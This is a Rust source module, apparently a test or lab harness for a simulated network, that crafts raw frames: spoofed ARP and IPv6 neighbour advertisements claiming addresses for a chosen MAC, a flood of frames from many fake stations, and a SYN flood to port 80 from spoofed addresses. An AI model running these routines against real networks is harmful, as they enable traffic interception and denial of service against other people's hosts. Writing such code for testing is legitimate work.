//! Frames that no stack would send by itself: claims of others' addresses, many stations, connections never completed.

use crate::neighbour::{Arp, Discovery, group_mac};
use etherparse::PacketBuilder;
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockType, sendto, socket};
use socket2::{Domain, Protocol, Socket, Type};
use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::Duration;

/// Frames sent in one go: a wire has a queue, and what it does not take is lost. The card is simulated, and each broadcast leaves by all its ports.
const BURST: u32 = 8;
/// Time between two of them.
const PAUSE: Duration = Duration::from_millis(80);
/// Every station, in Ethernet and in IPv6.
const EVERYONE: ([u8; 6], Ipv6Addr) = ([0xff; 6], Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1));
/// Option of a neighbour advertisement: the MAC of its target.
const TARGET_MAC: u8 = 2;
/// An ethertype for experiments (IEEE 802).
const ETHERTYPE: [u8; 2] = [0x88, 0xb5];
/// "Raw": the header is the sender's own.
const RAW: i32 = 255;
/// The network of those who do not exist (RFC 5737).
const NOWHERE: [u8; 3] = [198, 51, 100];

/// What sends frames by a device as they are.
fn sender(device: &str) -> io::Result<impl Fn(&[u8]) -> io::Result<()>> {
    let own = getifaddrs()?
        .filter(|found| found.interface_name == device)
        .find_map(|found| found.address?.as_link_addr().copied());
    let to = own.ok_or(io::ErrorKind::NotFound)?;
    let raw = socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::empty(),
        None,
    )?;
    Ok(move |frame: &[u8]| {
        let sent = sendto(raw.as_raw_fd(), frame, &to, MsgFlags::empty());
        sent.map(drop).map_err(io::Error::from)
    })
}

/// Tells everyone by a device, in every way there is, that these addresses are at `mac`.
///
/// # Errors
/// If there is no such device, or raw sockets are not permitted.
pub fn claim(device: &str, mac: [u8; 6], addresses: &[IpAddr]) -> io::Result<()> {
    let send = sender(device)?;
    let (all, group) = EVERYONE;
    for address in addresses {
        let bodies = match *address {
            IpAddr::V4(own) => vec![
                (all, Arp::request(mac, own, own).bytes()),
                (all, Arp::reply((mac, own), (all, own)).bytes()),
            ],
            IpAddr::V6(own) => {
                let message = Discovery::advertisement(own, group, own);
                let body = message.with_mac(TARGET_MAC, mac).bytes();
                vec![(group_mac(group), body)]
            }
        };
        for (to, body) in bodies {
            let mut frame = [to, mac].concat();
            frame.extend(body);
            send(&frame)?;
            thread::sleep(PAUSE);
        }
    }
    Ok(())
}

/// Sends a broadcast from each of so many stations by a device.
///
/// # Errors
/// If there is no such device, or raw sockets are not permitted.
pub fn flood_stations(device: &str, stations: u32) -> io::Result<()> {
    let send = sender(device)?;
    for number in 0..stations {
        let [_, a, b, c] = number.to_be_bytes();
        let mut frame = vec![0xff; 6];
        // Locally administered, and nobody's.
        frame.extend([0x06, 0xf1, 0x00, a, b, c]);
        frame.extend(ETHERTYPE);
        frame.resize(60, 0);
        send(&frame)?;
        pause(number);
    }
    Ok(())
}

/// Asks for so many connections to port 80, each from someone who does not exist.
///
/// # Errors
/// If raw sockets are not permitted.
pub fn flood_connections(to: Ipv4Addr, connections: u32) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    for number in 0..connections {
        let [.., port_high, host] = number.to_be_bytes();
        let from = [NOWHERE[0], NOWHERE[1], NOWHERE[2], host];
        let port = 1_024 + u16::from(port_high);
        let packet = PacketBuilder::ipv4(from, to.octets(), 64).tcp(port, 80, number, 64_240);
        let mut bytes = Vec::new();
        packet
            .syn()
            .write(&mut bytes, &[])
            .map_err(io::Error::other)?;
        socket.send_to(&bytes, &SocketAddrV4::new(to, 0).into())?;
        pause(number);
    }
    Ok(())
}

fn pause(number: u32) {
    if number % BURST == BURST - 1 {
        thread::sleep(PAUSE);
    }
}
